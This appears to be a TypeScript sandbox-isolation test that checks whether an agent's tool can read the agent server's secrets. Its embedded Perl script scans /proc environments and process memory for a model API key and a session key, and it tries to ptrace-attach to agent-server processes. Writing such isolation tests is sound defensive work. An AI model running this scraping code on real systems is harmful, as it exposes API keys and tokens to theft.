import { LLM_KEY } from '../../system/journeys/support/journey-world.js';
import { type Attack, held, notPromised } from '../attack.js';
import { shell } from '../../system/journeys/support/script.js';

/**
 * Looks for words, written backwards so that it does not find itself, in memory, environment and arguments of every process;
 * and attaches itself to each agent server that it sees.
 */
const SEARCH = `
use strict; no warnings 'portable';
my @words = map { scalar reverse $_ } @ARGV;
my $ptrace = (qx(uname -m) =~ /aarch64/) ? 117 : 101;
my ($found, $servers, $readable, $traced) = (0, 0, 0, 0);
sub content { open(my $f, '<', $_[0]) or return ''; local $/; return <$f> // '' }
for my $dir (glob('/proc/[0-9]*')) {
  my ($pid) = $dir =~ /(\\d+)$/;
  next if $pid == $$;
  my $isServer = content("$dir/cmdline") =~ m{agent-server/main\\.js} && content("$dir/comm") !~ /^(bwrap|sh|bash|setpriv|docker-init|tini)$/;
  $servers += $isServer;
  for my $text (content("$dir/environ")) { for (@words) { $found++ if index($text, $_) >= 0 } }
  if ($isServer && syscall($ptrace, 16, $pid + 0, 0, 0) == 0) {
    $traced++;
    waitpid($pid, 0x40000000);
    syscall($ptrace, 17, $pid + 0, 0, 0);
  }
  open(my $maps, '<', "$dir/maps") or next;
  open(my $memory, '<:raw', "$dir/mem") or next;
  my $any = 0;
  while (my $line = <$maps>) {
    my ($from, $to) = $line =~ /^([0-9a-f]+)-([0-9a-f]+) rw/ or next;
    my $left = hex($to) - hex($from);
    next if $left > 268435456 || !defined sysseek($memory, hex $from, 0);
    my $tail = '';
    while ($left > 0) {
      my $count = sysread($memory, my $chunk, $left > 4194304 ? 4194304 : $left) or last;
      $any = 1;
      $left -= $count;
      for (@words) { $found++ if index($tail . $chunk, $_) >= 0 }
      $tail = substr($chunk, -64);
    }
  }
  $readable += $any if $isServer;
}
print "FOUND $found SERVERS $servers READABLE $readable TRACED $traced\\n";
`;

export const memoryOfAgentServer: Attack = {
  name: 'memory-of-agent-server',
  finding: 4,
  what: 'A tool of Bob reads memory, environment and arguments of his agent server, which has model keys and git tokens.',
  expected: {
    process: held('tools have a process namespace of their own, and see no agent server'),
    unwrapped: notPromised('tools run as the user of the agent server'),
    docker: held('no other process lets itself be read or traced'),
    kubernetes: held('no other process lets itself be read or traced'),
  },
  run: async ({ bob }) => {
    // The key of the model is in memory once the agent has worked.
    await bob.client.say(bob.conversationId, shell('true'));
    await bob.client.conversationIn(bob.conversationId, 'finished');
    const words = [LLM_KEY, await bob.sessionKey()].map((word) => Array.from(word).toReversed().join(''));
    const { exitCode, output } = await bob.perl(SEARCH, words, 60);
    const [, found, servers, readable, traced] =
      /FOUND (\d+) SERVERS (\d+) READABLE (\d+) TRACED (\d+)/.exec(output) ?? [];
    if (found === undefined) {
      throw new Error(`the search ended with ${exitCode}: ${output.slice(-300)}`);
    }
    return {
      held: found === '0' && readable === '0' && traced === '0',
      seen: `keys found ${found} times; ${servers} agent servers visible, memory of ${readable} readable, ${traced} traceable`,
    };
  },
};
